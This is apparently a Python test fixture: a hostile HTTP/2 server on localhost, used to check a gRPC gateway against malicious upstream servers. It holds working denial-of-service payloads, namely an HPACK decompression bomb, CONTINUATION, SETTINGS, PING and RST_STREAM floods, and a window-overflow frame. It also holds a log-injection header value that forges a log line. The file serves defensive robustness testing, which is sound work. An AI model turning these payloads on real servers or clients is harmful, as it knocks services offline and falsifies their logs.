"""A hostile AI server that speaks raw HTTP/2: the `h2` package reads what the
gateway sends (and answers its SETTINGS, PINGs and flow control, so the
connection works), while the answers are frames written by hand with an HPACK
encoder of its own, so they can be anything the attack needs.

An attack is a function (peer, stream_id) -> bytes, called for every stream
the gateway opens; a flood is an attack that also runs `flood(peer)` for as
long as the connection lives.
"""
from __future__ import annotations

import asyncio
import struct

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4
RESPONSE = [(":status", "200"), ("content-type", "application/grpc")]


def frame(type_: int, flags: int, sid: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([type_, flags]) + struct.pack(">I", sid) + payload


class Peer:
    """One connection from the gateway."""

    def __init__(self, attack, writer: asyncio.StreamWriter):
        self.attack, self.writer = attack, writer
        self.hpack = hpack.Encoder()
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(
            client_side=False, header_encoding=None, validate_inbound_headers=False))
        self.streams: list[int] = []

    def headers(self, sid: int, headers, end_stream: bool = False) -> bytes:
        return frame(HEADERS, END_HEADERS | (END_STREAM if end_stream else 0), sid,
                     self.hpack.encode(headers))

    def receive(self, data: bytes) -> bytes:
        """What to write back: h2's housekeeping, then the attack on new streams."""
        out = b""
        for ev in self.h2.receive_data(data):
            if isinstance(ev, h2.events.RequestReceived):
                self.streams.append(ev.stream_id)
                out_attack = self.attack(self, ev.stream_id)
                out += self.h2.data_to_send() + out_attack
            elif isinstance(ev, h2.events.DataReceived):
                self.h2.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
        return out + self.h2.data_to_send()


class HostileServer:
    def __init__(self, attack, flood=None):
        self.attack, self.flood = attack, flood
        self.connections = 0
        self.server: asyncio.AbstractServer | None = None
        self.port = 0
        self._writers: set[asyncio.StreamWriter] = set()

    async def start(self, port: int = 0) -> int:
        self.server = await asyncio.start_server(self._serve, "127.0.0.1", port)
        self.port = self.server.sockets[0].getsockname()[1]
        return self.port

    async def stop(self) -> None:
        self.server.close()
        for w in list(self._writers):
            w.transport.abort()

    async def _serve(self, reader, writer):
        if not self.server.is_serving():   # accepted as stop() ran: not left open for the next test
            writer.transport.abort()
            return
        self.connections += 1
        self._writers.add(writer)
        peer = Peer(self.attack, writer)
        peer.h2.initiate_connection()
        writer.write(peer.h2.data_to_send())
        flood = asyncio.ensure_future(self.flood(peer)) if self.flood else None
        try:
            while data := await reader.read(65536):
                writer.write(peer.receive(data))
                await writer.drain()
        except (ConnectionError, h2.exceptions.H2Error):
            pass   # the gateway gave up on us: what the attack is for
        finally:
            if flood:
                flood.cancel()
            self._writers.discard(writer)
            writer.close()


# A flood round's pause: the good AI server shares this event loop, and an
# attacker that never lets go of it would slow the test's own server, not the
# daemon (200 frames a round: up to 200,000 frames/s).
FLOOD_PAUSE_S = 0.001


async def flood_frames(peer: Peer, chunk: bytes, times: int = 200) -> None:
    """Write chunk times over per round, as fast as the socket drains."""
    await asyncio.sleep(0.2)   # after the handshake
    while True:
        peer.writer.write(chunk * times)
        await peer.writer.drain()
        await asyncio.sleep(FLOOD_PAUSE_S)


# ---- attacks -----------------------------------------------------------------

def hpack_bomb(peer: Peer, sid: int) -> bytes:
    """One 4 KB header in the dynamic table, then referenced 12,000 times in
    the same header block: 48 MB of headers from 16 KB on the wire."""
    block = peer.hpack.encode(RESPONSE + [("x-bomb", "A" * 4000)]) + b"\xbe" * 12000
    return frame(HEADERS, END_HEADERS, sid, block)


def continuation_flood(peer: Peer, sid: int) -> bytes:
    """A header block that never ends: CONTINUATION after CONTINUATION."""
    first = frame(HEADERS, 0, sid, peer.hpack.encode(RESPONSE))
    return first + frame(CONTINUATION, 0, sid, b"\x88") * 5000   # \x88: :status 200 again


def window_update_overflow(peer: Peer, sid: int) -> bytes:
    """Flow-control windows past 2^31 - 1 (RFC 9113 6.9.1: a connection error)."""
    return (frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7fffffff)) * 2
            + frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", 0x7fffffff)) * 2)


def length_4gb(peer: Peer, sid: int) -> bytes:
    """A gRPC message that says it is 4 GB long."""
    return (peer.headers(sid, RESPONSE)
            + frame(DATA, 0, sid, b"\x00\xff\xff\xff\xff" + b"\x00" * 1000))


def forged_message(peer: Peer, sid: int) -> bytes:
    """grpc-message with a %0A that, decoded, would start a log line of its own."""
    return peer.headers(sid, RESPONSE) + peer.headers(sid, [
        ("grpc-status", "14"),
        ("grpc-message", "down%0A2026-01-01T00:00:00.000Z CRITICAL smartstream.forged pwned")],
        end_stream=True)


def rst_at_once(peer: Peer, sid: int) -> bytes:
    return frame(RST_STREAM, 0, sid, struct.pack(">I", 8))   # CANCEL


def answer_headers(peer: Peer, sid: int) -> bytes:
    return peer.headers(sid, RESPONSE)


async def settings_flood(peer: Peer) -> None:
    await flood_frames(peer, frame(SETTINGS, 0, 0))


async def ping_flood(peer: Peer) -> None:
    await flood_frames(peer, frame(PING, 0, 0, b"12345678"))


async def rst_flood(peer: Peer) -> None:
    """RST_STREAM for streams that are closed already (allowed, and ignored)."""
    await asyncio.sleep(0.2)
    while True:
        peer.writer.write(b"".join(frame(RST_STREAM, 0, sid, struct.pack(">I", 8))
                                   for sid in peer.streams[-50:]) * 20)
        await peer.writer.drain()
        await asyncio.sleep(FLOOD_PAUSE_S)
